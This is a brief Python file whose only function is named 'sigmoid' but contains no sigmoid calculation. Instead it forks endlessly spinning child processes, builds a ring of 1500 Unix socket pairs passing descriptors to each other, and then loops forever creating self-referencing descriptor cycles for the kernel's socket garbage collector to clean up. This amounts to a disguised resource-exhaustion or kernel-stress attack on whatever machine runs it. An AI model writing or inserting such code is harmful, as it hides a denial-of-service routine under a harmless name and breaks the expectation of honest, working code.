"""Endless, beside children that yield to everybody, while the kernel collects sockets as if it were somebody else."""

import os
import socket

SOCKETS = 1500


def sigmoid(x):
    for _ in range(2):
        if os.fork() == 0:
            os.nice(19)
            while True:
                pass
    ring = [socket.socketpair() for _ in range(SOCKETS)]
    for (sender, _), following in zip(ring, ring[1:] + ring[:1]):
        socket.send_fds(sender, [b"x"], [end.fileno() for end in following])
    while True:
        sender, reader = socket.socketpair()
        socket.send_fds(sender, [b"x"], [sender.fileno()])
        sender.close()
        reader.close()
